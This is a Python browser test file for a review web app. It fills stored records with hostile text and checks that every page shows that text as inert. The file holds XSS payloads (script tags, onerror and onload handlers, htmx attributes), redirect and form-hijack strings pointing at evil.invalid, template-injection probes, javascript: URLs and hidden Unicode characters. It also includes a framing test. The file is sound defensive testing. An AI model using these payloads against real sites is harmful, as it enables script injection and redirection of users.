"""Texts that would do something if a page took them for more than text: they are shown, and nothing happens."""

from __future__ import annotations

import contextlib
import shutil
import sqlite3
from typing import TYPE_CHECKING

import pandas as pd
import pytest

from valuation.review.gigs import open_gigs
from valuation.storage import Layout
from valuation.tables import AuditSample, read_table

from .browser import NARROW, WIDE, found, marked, matches_of, serving

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from .browser import Person, Served

pytestmark = pytest.mark.slow

SAID = "document.documentElement.dataset.pwned=1"
SCRIPTS = (
    f"<script>{SAID}</script>",
    f'"><img src=x onerror="{SAID}">',
    f"'><svg/onload={SAID}>",
    f"</textarea></title></style></script><script>{SAID}</script>",
    f'<div hx-get="https://evil.invalid/x" hx-trigger="load" data-card="1" data-focus hx-on:load="{SAID}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/"><base href="https://evil.invalid/">',
    '<form action="https://evil.invalid/"><button name=verdict value=comparable>x</button></form>',
    "{{ 7*191 }} {% raw %} ${7*191} <%= 7*191 %> &lt;b&gt;",
    "{#if}{/if}[link](javascript:alert(1))",
)
TRICKS = "\u202eesrever\u202c \u2066isolated\u2069 zero\u200bwidth\u2060 soft\u00adhyphen \ufeffmark tag\U000e0041"
HIDDEN = "\u202e\u202c\u2066\u2069\u200b\u2060\ufeff\U000e0041"
ADDRESSES = ("javascript:document.title=1", "data:text/html,<script>1</script>", 'https://evil.invalid/" onclick="x')
DONE = """() => ({
  pwned: document.documentElement.dataset.pwned || null,
  made: document.querySelectorAll("#page :is(script, img, iframe, base, meta, object, embed, style, link)").length,
  handlers: [...document.querySelectorAll("*")].filter(
    one => [...one.attributes].some(attribute => /^(on|hx-on)/.test(attribute.name))).length,
  forms: [...document.querySelectorAll("form")].filter(one => !one.action.startsWith(location.origin)).length,
  links: [...document.querySelectorAll("a[href]")].filter(one => one.origin !== location.origin).map(one => one.href),
  asked: document.querySelectorAll("[hx-get]:not([hx-get^='/runs/'])").length,
  sum: document.body.innerText.includes("1337"),
  wide: Math.max(0, document.documentElement.scrollWidth - window.innerWidth),
})"""
NOTHING = {"pwned": None, "made": 0, "handlers": 0, "forms": 0, "links": [], "asked": 0, "sum": False, "wide": 0}


@pytest.fixture(scope="module")
def served(browser, audited: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A workspace in which every posting and every session says something of the kind."""
    root = tmp_path_factory.mktemp("hostile") / "work"
    shutil.copytree(audited, root)
    for path in root.glob("sessions/*/*.parquet"):
        table = pd.read_parquet(path)
        table["summary"] = [f"{text} {hostile(place)}" for place, text in enumerate(table["summary"])]
        table["tool"] = [SCRIPTS[place % 5] for place in range(len(table))]
        table.to_parquet(path, index=False)
    basket = next(root.glob("indices/*/basket.json")).parent
    open_gigs(Layout(root), basket.name).build()
    with contextlib.closing(sqlite3.connect(basket / "gigs.sqlite", isolation_level=None)) as store:
        rows = store.execute('SELECT "row", description FROM gigs').fetchall()
        store.execute("BEGIN")
        for row, text in rows:
            word = "x" * 100_000 if row % 3 == 0 else ""
            given = (f"{hostile(row)} website", f"{text} {hostile(row + 1)} {word}", hostile(row + 2))
            store.execute('UPDATE gigs SET title = ?, description = ?, skills = ? WHERE "row" = ?', (*given, row))
            store.execute('UPDATE gigs SET url = ? WHERE "row" = ?', (ADDRESSES[row % 3], row))
        store.execute("INSERT INTO words(words) VALUES ('rebuild')")
        store.execute("COMMIT")
    with serving(root) as running:
        yield running


def hostile(place: int) -> str:
    return f"{SCRIPTS[place % len(SCRIPTS)]} {TRICKS}"


def look(person: Person, step: str) -> str:
    """Nothing was done, nothing was made, nothing leads away, at any width; returns the page's text."""
    for size in (NARROW, WIDE):
        person.page.set_viewport_size(size)
        assert person.page.evaluate(DONE) == NOTHING, step
    text = person.page.locator("#page").inner_text()
    assert not set(text) & set(HIDDEN), step
    return text


def test_hostile_texts_are_texts_on_blind_and_open_pages(served: Served, analyst):
    sample = read_table(served.root / "audits" / "first" / "sample.parquet", AuditSample)
    session = next(one for one in sample["session_id"] if len(matches_of(served, one)) > 4)
    person = analyst(served, "Yan")
    person.take("first", session)
    seen = look(person, "blind")
    person.press("m")
    for number in range(1, 6):
        seen += look(person, f"gig {number}")
        person.press("n")
        person.page.keyboard.type(SCRIPTS[number])
        person.press("Enter")
        person.turn("1" if number > 1 else "4")
    person.turn("v")
    marked(person)
    seen += look(person, "open")
    assert f"– {SCRIPTS[1]}" in seen  # the analyst's own note, as it was typed
    for script in SCRIPTS[:2]:
        assert script in seen
    assert "{{ 7*191 }}" in seen or "${7*191}" in seen


def test_hostile_texts_are_texts_in_lists_and_searches(served: Served, analyst):
    person, run = analyst(served, "Zoe"), f"/runs/{served.run_id}"
    for path in ("/", f"{run}/sessions", f"{run}/sessions?words=script", f"{run}/sessions?queue=outliers"):
        person.go(path)
        look(person, path)
    person.go(f"{run}/sessions")
    person.page.evaluate("() => document.querySelectorAll('.facet').forEach(one => { one.open = true })")
    person.page.locator(".facet a", has_text="<script>").first.click()
    person.page.wait_for_url("**is.tool**")
    assert "<script>" in look(person, "facet") and person.page.locator("tbody tr").count() > 1
    for text in ("website", SCRIPTS[1], SCRIPTS[7], TRICKS):
        person.go(f"{run}/search")
        person.page.fill("#q", text)
        person.page.check("[name=by][value=words]")
        person.page.click(".search button")
        person.page.wait_for_url("**by=words**")
        found(person)
        look(person, f"search for {text[:20]}")
    for path in (f"{run}/sessions?queue={SCRIPTS[0]}", f"{run}/session?id={SCRIPTS[1]}", f"/audits/{SCRIPTS[0]}"):
        person.go(path)
        assert person.page.locator("[role=alert]").inner_text() and look(person, path)


def test_no_other_site_can_put_a_page_into_a_frame(served: Served, analyst):
    person = analyst(served, "Abe")
    elsewhere = person.context.new_page()
    with elsewhere.expect_event("console"):
        elsewhere.set_content(f'<iframe src="{served.sign_in}" name="inside"></iframe>')
    assert "session-value" not in elsewhere.frame("inside").content()
    told, person.faults[:] = list(person.faults), []
    assert len(told) == 1 and "frame-ancestors 'none'" in told[0]
